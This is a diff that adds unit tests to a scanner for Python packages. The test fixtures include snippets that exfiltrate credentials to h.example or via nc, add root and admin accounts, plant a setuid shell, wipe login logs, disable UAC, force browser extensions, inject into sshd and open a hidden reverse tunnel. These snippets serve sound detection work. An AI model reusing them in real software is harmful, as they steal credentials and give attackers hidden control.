@@ -2508,6 +2508,190 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/tcc.py", tccRead))).isEmpty();
   }
 
+  @Test
+  void aCommandSetInAnotherProgramsConfigurationIsMediumAndHighWhenItSendsWhatItIsGiven() {
+    String aws =
+        "import configparser\nparser = configparser.RawConfigParser()\n"
+            + "parser.set('default', 'credential_process', f'{sys.executable} -m pkg.refresh')\n";
+    String kube =
+        "user['exec'] = {'apiVersion': 'client.authentication.k8s.io/v1beta1', "
+            + "'command': sys.executable, 'args': ['-m', 'pkg.auth']}\n";
+    String git =
+        "import subprocess\nHELPER = '!f() { in=$(cat); printf \"%s\" \"$in\" | "
+            + "curl -s --data-binary @- https://h.example/c; }; f'\n"
+            + "subprocess.run(['git', 'config', '--global', 'credential.helper', HELPER])\n";
+    String botocore =
+        "credential_process = self._credential_process\n"
+            + "command = config.get('credential_process')\n";
+    String gitStore =
+        "import subprocess\n"
+            + "subprocess.run(['git', 'config', '--global', 'credential.helper', 'store'])\n";
+
+    assertThat(levelIn(aws, "command-in-tool-config")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(levelIn(kube, "command-in-tool-config")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(levelIn(git, "configured-command-sends")).isEqualTo(RiskLevel.HIGH);
+    // the setting read, and Git given its own store
+    assertThat(check(wheelWith("pkg/creds.py", botocore))).isEmpty();
+    assertThat(check(wheelWith("pkg/login.py", gitStore))).isEmpty();
+  }
+
+  @Test
+  void aPasswordPromptOrPamLinePipingPasswordsOutIsHigh() {
+    String sudo =
+        "WRAPPER = '''#!/bin/bash\nread -r -s -p \"[sudo] password for $USER: \" answer\n"
+            + "printf '%s' \"$answer\" | nc -w 3 10.0.0.9 8443\n'''\n"
+            + "open(path, 'w').write(WRAPPER)\n";
+    String pam =
+        "LINE = 'auth optional pam_exec.so quiet expose_authtok /usr/local/lib/.audit'\n"
+            + "with open('/etc/pam.d/common-auth', 'a') as fh:\n    fh.write(LINE)\n";
+    String invoke = "DEFAULTS = {'sudo': {'prompt': '[sudo] password: ', 'user': None}}\n";
+    String pamNotice = "LINE = 'session optional pam_exec.so /usr/local/bin/notify-login'\n";
+
+    assertThat(levelIn(sudo, "captured-password-sent")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(pam, "pam-exec-authtok")).isEqualTo(RiskLevel.HIGH);
+    // a task runner's own sudo prompt, and a login notice that is given no password
+    assertThat(check(wheelWith("pkg/config.py", invoke))).isEmpty();
+    assertThat(check(wheelWith("pkg/pam.py", pamNotice))).isEmpty();
+  }
+
+  @Test
+  void accountsAddedAndSetUserIdShellsAreHigh() {
+    String passwd =
+        "with open('/etc/passwd', 'a') as fh:\n"
+            + "    fh.write('systemd-cache:x:0:0:cache:/var/cache:/bin/bash\\n')\n";
+    String useradd =
+        "import subprocess\nsubprocess.run(['useradd', '-o', '-u', '0', '-M', 'sysops'])\n";
+    String windows =
+        "import os\nos.system('net user support Wq8!r2 /add /y')\n"
+            + "os.system('net localgroup Administrators support /add')\n";
+    String noPassword = "import os\nos.system('net user support /add')\n";
+    String hidden =
+        "key = r'SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts"
+            + "\\UserList'\n";
+    String setuid =
+        "import os, shutil, stat\nshutil.copy2('/bin/bash', '/var/tmp/.cache')\n"
+            + "os.chmod('/var/tmp/.cache', stat.S_ISUID | stat.S_IRWXU | stat.S_IXOTH)\n";
+    String parser = "SAMPLE = 'root:x:0:0:root:/root:/bin/bash'\nentry = parse_passwd(SAMPLE)\n";
+    String listing = "import subprocess\nsubprocess.run(['net', 'user'], capture_output=True)\n";
+    String ipv6 = "URL = 'http://[1080:0:0:0:8:800:200C:417A]/index.html'\n";
+    String script = "import os, shutil\nshutil.copy2(TEMPLATE, target)\nos.chmod(target, 0o755)\n";
+
+    assertThat(levelIn(passwd, "adds-root-account")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(useradd, "adds-root-account")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(windows, "adds-admin-account")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(noPassword, "adds-admin-account")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(hidden, "adds-admin-account")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(setuid, "setuid-shell")).isEqualTo(RiskLevel.HIGH);
+    // root's own line parsed, the accounts listed, an IPv6 address, a script made executable
+    assertThat(check(wheelWith("pkg/users.py", parser))).isEmpty();
+    assertThat(check(wheelWith("pkg/win.py", listing))).isEmpty();
+    assertThat(check(wheelWith("pkg/url.py", ipv6))).isEmpty();
+    assertThat(check(wheelWith("pkg/tpl.py", script))).isEmpty();
+  }
+
+  @Test
+  void loginRecordsEmptiedRemoteDesktopOnAndUacOffWeakenTheMachine() {
+    String wipe =
+        "for log in ('/var/log/wtmp', '/var/log/btmp', '/var/log/auth.log'):\n"
+            + "    with open(log, 'w'):\n        pass\n";
+    String journal = "import subprocess\nsubprocess.run(['journalctl', '--vacuum-time=1s'])\n";
+    String rdp =
+        "import os\nos.system(r'reg add \"HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal"
+            + " Server\" /v fDenyTSConnections /t REG_DWORD /d 0 /f')\n";
+    String uac = "import winreg\nwinreg.SetValueEx(policy, 'EnableLUA', 0, winreg.REG_DWORD, 0)\n";
+    String logins =
+        "import io\nbuffer = io.BytesIO()\nwith open('/var/log/wtmp', 'rb') as fh:\n"
+            + "    records = parse_utmp(fh.read())\nbuffer.truncate(0)\n";
+    String rotate = "import subprocess\nsubprocess.run(['journalctl', '--vacuum-time=2weeks'])\n";
+    String uacRead = "import winreg\nenabled, _ = winreg.QueryValueEx(policy, 'EnableLUA')\n";
+
+    assertThat(levelIn(wipe, "wipes-login-records")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(journal, "destroys-recovery")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(rdp, "enables-remote-desktop")).isEqualTo(RiskLevel.MEDIUM);
+    assertThat(levelIn(uac, "weakens-antivirus")).isEqualTo(RiskLevel.HIGH);
+    // the logins read (a buffer emptied), the journal kept to two weeks, UAC's setting read
+    assertThat(check(wheelWith("pkg/last.py", logins))).isEmpty();
+    assertThat(check(wheelWith("pkg/logs.py", rotate))).isEmpty();
+    assertThat(check(wheelWith("pkg/uac.py", uacRead))).isEmpty();
+  }
+
+  @Test
+  void browsersGivenForcedExtensionsOrWeakerPreferencesAreHigh() {
+    String policy =
+        "import winreg\nkey = winreg.CreateKeyEx(winreg.HKEY_LOCAL_MACHINE, "
+            + "r'SOFTWARE\\Policies\\Google\\Chrome\\ExtensionInstallForcelist')\n";
+    String restart =
+        "import subprocess\nsubprocess.run(['taskkill', '/f', '/im', 'chrome.exe'])\n"
+            + "subprocess.Popen([chrome, f'--load-extension={folder}'])\n";
+    String prefs =
+        "PREFS = 'user_pref(\"browser.safebrowsing.malware.enabled\", false);'\n"
+            + "open(os.path.join(profile, 'user.js'), 'a').write(PREFS)\n";
+    String testing =
+        "options = webdriver.ChromeOptions()\n"
+            + "options.add_argument(f'--load-extension={EXTENSION_UNDER_TEST}')\n";
+    String homepage =
+        "PREFS = 'user_pref(\"browser.startup.homepage\", \"about:blank\");'\n"
+            + "open(os.path.join(profile, 'user.js'), 'w').write(PREFS)\n";
+
+    assertThat(levelIn(policy, "forced-browser-extension")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(restart, "browser-restarted-with-extension")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(prefs, "firefox-prefs-weakened")).isEqualTo(RiskLevel.HIGH);
+    // an extension under test in a driver's own browser, and a test profile's start page
+    assertThat(check(wheelWith("pkg/driver.py", testing))).isEmpty();
+    assertThat(check(wheelWith("pkg/profile.py", homepage))).isEmpty();
+  }
+
+  @Test
+  void codeRunThroughMultiprocessingADebuggerOrAnotherModulesSourceIsHigh() {
+    String worker =
+        "import multiprocessing, urllib.request\n"
+            + "worker = os.path.join(tempfile.gettempdir(), '.w')\n"
+            + "urllib.request.urlretrieve('https://h.example/w', worker)\n"
+            + "multiprocessing.set_executable(worker)\n";
+    String gdb =
+        "import subprocess\n"
+            + "pid = subprocess.run(['pgrep', '-o', 'sshd'], capture_output=True).stdout\n"
+            + "subprocess.run(['gdb', '-batch', '-p', pid, '-ex', "
+            + "'call (void*)dlopen(\"/x.so\", 2)'])\n";
+    String patch =
+        "import importlib.util\nspec = importlib.util.find_spec('requests')\n"
+            + "with open(spec.origin, 'a') as fh:\n    fh.write(LINE)\n";
+    String pythonw =
+        "import multiprocessing, os, sys\n"
+            + "multiprocessing.set_executable(os.path.join(sys.exec_prefix, 'pythonw.exe'))\n";
+    String attach =
+        "import subprocess\n"
+            + "subprocess.run(['gdb', '-batch', '-p', str(args.pid), '-ex', "
+            + "f'call (void*)dlopen(\"{AGENT}\", 2)'])\n";
+    String read =
+        "import importlib.util\nspec = importlib.util.find_spec('requests')\n"
+            + "with open(spec.origin) as fh:\n    source = fh.read()\n";
+    String ownOrigin = "with open(self.origin, 'w') as fh:\n    fh.write(report)\n";
+
+    assertThat(levelIn(worker, "runs-downloaded-file")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(gdb, "injects-into-daemon")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(patch, "patches-installed-module")).isEqualTo(RiskLevel.HIGH);
+    // its own pythonw, an agent attached to a process it is given, sources read and written
+    assertThat(check(wheelWith("pkg/mp.py", pythonw))).isEmpty();
+    assertThat(check(wheelWith("pkg/attach.py", attach))).isEmpty();
+    assertThat(check(wheelWith("pkg/inspect.py", read))).isEmpty();
+    assertThat(check(wheelWith("pkg/report.py", ownOrigin))).isEmpty();
+  }
+
+  @Test
+  void aPlinkReverseTunnelStartedWithoutAWindowIsHidden() {
+    String plink =
+        "import subprocess\nsubprocess.Popen(['plink.exe', '-batch', '-N', '-R', "
+            + "'0.0.0.0:13389:127.0.0.1:3389', 'relay@h.example'], creationflags=0x08000000)\n";
+    String local =
+        "import subprocess\nsubprocess.Popen(['plink.exe', '-batch', '-N', '-L', "
+            + "'5432:db:5432', 'me@bastion'], creationflags=subprocess.CREATE_NO_WINDOW)\n";
+
+    assertThat(levelIn(plink, "hidden-reverse-tunnel")).isEqualTo(RiskLevel.HIGH);
+    // a local forward to a database through a bastion
+    assertThat(check(wheelWith("pkg/tunnel.py", local))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
